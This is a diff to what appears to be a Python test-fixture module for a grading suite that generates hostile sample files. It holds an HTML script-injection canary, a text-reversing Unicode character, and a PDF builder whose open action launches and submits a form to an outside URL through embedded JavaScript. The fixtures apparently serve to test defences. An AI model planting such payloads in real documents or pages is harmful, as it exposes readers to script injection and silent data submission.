@@ -5,10 +5,11 @@ from __future__ import annotations
 import base64
 import io
 import json
-import struct
 import zipfile
-import zlib
 from pathlib import Path
+
+from tests.grading import made
+from tests.grading.made import picture
 
 CANARY = "<img src=x onerror='window.canary=1'><script>window.canary=1</script>"
 """Sets a variable in the page, where anything reads it as HTML."""
@@ -18,48 +19,17 @@ TURNED = "\u202e"
 """Turns the order of what comes after it."""
 
 
-def png(width: int = 240, height: int = 90, shade: tuple[int, int, int] = (0, 114, 178)) -> bytes:
-    """A picture of one colour that fades to the right."""
-    row = b"\0" + b"".join(
-        bytes(int(255 - (255 - one) * (x + 1) / width) for one in shade) for x in range(width)
-    )
-    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return (
-        b"\x89PNG\r\n\x1a\n"
-        + _chunk(b"IHDR", head)
-        + _chunk(b"IDAT", zlib.compress(row * height))
-        + _chunk(b"IEND", b"")
-    )
-
-
-def _chunk(name: bytes, body: bytes) -> bytes:
-    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
+def png() -> bytes:
+    """A picture."""
+    return picture("PNG", (240, 90))
 
 
 def pdf(words: str) -> bytes:
     """A PDF of one page, which would open another page, and send something there."""
     script = f"app.launchURL('{OUTSIDE}'); this.submitForm('{OUTSIDE}'); app.alert('x')"
     script = script.replace("(", r"\(").replace(")", r"\)")
-    drawn = f"BT /F1 18 Tf 20 120 Td ({words}) Tj ET".encode()
-    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R"
-    page += b" /Resources << /Font << /F1 5 0 R >> >> >>"
-    parts = [
-        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
-        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-        page,
-        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(drawn), drawn),
-        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
-        b"<< /S /URI /URI (%s) /Next 7 0 R >>" % OUTSIDE.encode(),
-        b"<< /S /JavaScript /JS (%s) >>" % script.encode(),
-    ]
-    out, places = b"%PDF-1.4\n", []
-    for number, part in enumerate(parts, 1):
-        places.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
-    table = b"".join(b"%010d 00000 n \n" % place for place in places)
-    ends = (len(parts) + 1, len(out))
-    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % ends
-    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + table + end
+    opens = f"/OpenAction << /S /URI /URI ({OUTSIDE}) /Next << /S /JavaScript /JS ({script}) >> >>"
+    return made.pdf(words).replace(b"/Catalog", b"/Catalog " + opens.encode())
 
 
 def workbook() -> bytes:
